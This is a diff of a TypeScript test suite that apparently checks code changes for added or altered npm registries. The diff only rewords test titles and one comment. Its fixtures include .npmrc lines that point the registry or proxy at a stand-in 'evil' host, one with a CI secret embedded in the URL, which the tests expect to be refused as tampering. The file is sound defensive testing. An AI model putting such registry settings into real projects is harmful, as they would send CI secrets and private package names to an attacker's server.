@@ -115,7 +115,7 @@ describe('a registry that only the change names is sent nothing', () => {
   const isRefused = (got: Awaited<ReturnType<typeof check>>) => {
     expect(got.code).not.toBe(0)
     expect(got.gaps.join('\n')).toContain(`pkg:npm/%40x/new@1.0.0 ${only}`)
-    // Nor are its names told to anybody else.
+    // Nor are its names sent to another server.
     expect(heard(registry)).not.toContain('@x/')
   }
 
@@ -134,7 +134,7 @@ describe('a registry that only the change names is sent nothing', () => {
     isRefused(await check('--base', 'main'))
   })
 
-  test('with a lockfile that says nothing of it, on disk and staged', async () => {
+  test('with a lockfile that does not name it, on disk and staged', async () => {
     project.write({ ...tree(), '.npmrc': 'save-exact=true\n' })
     project.commit()
     project.write({ ...tree({ '@x/new': null, new: registry }), '.npmrc': stray() })
@@ -172,7 +172,7 @@ describe('a registry that only the change names is sent nothing', () => {
   })
 })
 
-describe('what the change says of a registry that the base names is not heard', () => {
+describe('edits of the change to a registry of the base are ignored', () => {
   test.each([
     ['another default registry', () => `registry=${evil.url}\${CI_SECRET}/\n`, ['tampering error']],
     ['a proxy', () => `proxy=${evil.url}\nhttps-proxy=${evil.url}\n`, ['tampering error']],
@@ -199,7 +199,7 @@ describe('what is honest passes', () => {
   const npmrc = () =>
     `@corp:registry=${corp.url}\n//${new URL(corp.url).host}/:_authToken=\${CI_TOKEN}\nsave-exact=true\n`
 
-  test('a scoped registry with its token, unchanged or with another setting that asks for nobody else', async () => {
+  test('a scoped registry with its token, unchanged or with another setting that changes no server', async () => {
     branch({ '.npmrc': npmrc() }, tree({ '@corp/new': corp, new: registry }))
     expect(await check('--base', 'main')).toMatchObject({ code: 0, rules: [], gaps: [] })
     project.write({ '.npmrc': `${npmrc()}engine-strict=true\n` })
